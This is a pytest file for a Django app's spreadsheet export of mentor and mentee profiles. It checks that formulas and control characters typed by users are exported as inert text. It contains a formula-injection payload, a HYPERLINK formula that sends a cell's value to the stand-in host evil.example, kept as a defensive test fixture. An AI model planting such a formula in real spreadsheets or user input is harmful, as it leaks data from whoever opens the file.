"""The bank export is a file a curator opens in Excel: text people typed stays inert text."""

import io

import openpyxl
import pytest
from django.urls import reverse

from apps.banks.models import Profile
from apps.core.years import academic_year
from tests.factories import ConsentFactory, PersonFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Подробнее")'


def test_it_exports_a_formula_in_a_motivation_as_text(curator_client, school):
    person = PersonFactory(organisation=school, last_name="Формулова", first_name="Анна")
    ConsentFactory(person=person)
    Profile.objects.create(
        organisation=school, person=person, kind="mentor", year=academic_year(),
        motivation=FORMULA, notes="@SUM(A1:A9)",
    )  # fmt: skip
    response = curator_client.get(reverse("banks:mentor-export", args=[school.pk]))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    motivation = sheet.cell(row=2, column=header.index("Мотивация") + 1)
    notes = sheet.cell(row=2, column=header.index("Заметки") + 1)
    assert (motivation.data_type, motivation.value, motivation.quotePrefix) == ("s", FORMULA, True)
    assert (notes.data_type, notes.value, notes.quotePrefix) == ("s", "@SUM(A1:A9)", True)


def test_it_exports_stored_control_characters_without_failing(curator_client, school):
    person = PersonFactory(
        organisation=school, last_name="Иванов\x18", first_name="Пётр", middle_name="Ильич"
    )
    ConsentFactory(person=person)
    Profile.objects.create(
        organisation=school, person=person, kind="mentee", year=academic_year(),
        motivation="Хочу\x1b[31m расти", notes="строка\x0bвторая",
    )  # fmt: skip
    response = curator_client.get(reverse("banks:mentee-export", args=[school.pk]))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = {name: sheet.cell(row=2, column=i + 1).value for i, name in enumerate(header)}
    assert (row["ФИО"], row["Мотивация"], row["Заметки"]) == (
        "Иванов Пётр Ильич",
        "Хочу[31m расти",
        "строкавторая",
    )
